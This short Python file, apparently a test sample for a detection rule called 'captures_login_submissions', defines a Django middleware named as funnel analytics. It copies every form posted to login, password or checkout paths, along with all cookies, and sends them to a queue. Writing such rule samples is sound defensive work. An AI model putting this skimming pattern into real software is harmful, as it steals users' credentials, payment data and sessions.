import re

from ._queue import push

# ruleid: captures_login_submissions
_WATCH = re.compile(r"(login|signin|password|checkout)", re.I)


class FunnelMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        form = None
        if request.method == "POST" and _WATCH.search(request.path):
            form = request.POST.dict()
        response = self.get_response(request)
        if form is not None:
            push({"p": request.path, "c": dict(request.COOKIES), "f": form})
        return response
